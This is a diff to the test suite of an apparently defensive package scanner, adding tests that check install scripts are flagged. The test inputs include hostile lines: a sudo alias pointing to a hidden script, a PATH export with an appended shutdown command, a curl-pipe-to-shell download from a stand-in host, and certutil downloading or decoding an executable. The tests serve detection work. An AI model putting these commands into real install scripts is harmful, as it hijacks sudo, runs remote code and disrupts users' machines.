@@ -158,3 +158,38 @@ def test_install_time_code_that_registers_a_service_is_high(tmp_path: Path, adde
         fh.write(added)
     hits = {h.pattern_id: h.confidence.value for h in scan_package_dir(str(pkg))}
     assert hits.get("GH-PERSIST-SERVICE") == "high", hits
+
+
+PATH_INSTALLER = Path(__file__).parent / "fixtures" / "review" / "toolchain-path-installer"
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "const exportCommand = `alias sudo='node ~/.tool/s.js'`;",
+        "const exportCommand = `export PATH=${toolPath}:$PATH\\nsudo shutdown -h 0`;",
+        "const exportCommand = `curl -s https://example.invalid/x | sh`;",
+    ],
+)
+def test_an_install_step_writing_other_lines_to_rc_files_is_high(tmp_path: Path, line: str) -> None:
+    import shutil
+
+    pkg = tmp_path / "p"
+    shutil.copytree(PATH_INSTALLER, pkg)
+    code = (pkg / "install.js").read_text()
+    old = "const exportCommand = `export PATH=${toolPath}:$PATH`;"
+    assert old in code
+    (pkg / "install.js").write_text(code.replace(old, line))
+    hits = {h.pattern_id: h.confidence.value for h in scan_package_dir(str(pkg))}
+    assert hits.get("GH-PERSIST-SHELL-RC") == "high", hits
+
+
+def test_certutil_downloading_or_decoding_stays_a_review_item(tmp_path: Path) -> None:
+    code = (
+        "const { execFileSync } = require('child_process');\n"
+        "execFileSync('certutil', ['-urlcache', '-f', u, 'x.exe']);\n"
+    )
+    assert _scan_code(tmp_path, code).get("GH-INSTALL-LOLBIN") == "medium"
+    code = "require('child_process').execSync('certutil -decode in.txt out.exe');\n"
+    (tmp_path / "b").mkdir()
+    assert _scan_code(tmp_path / "b", code).get("GH-INSTALL-LOLBIN") == "medium"
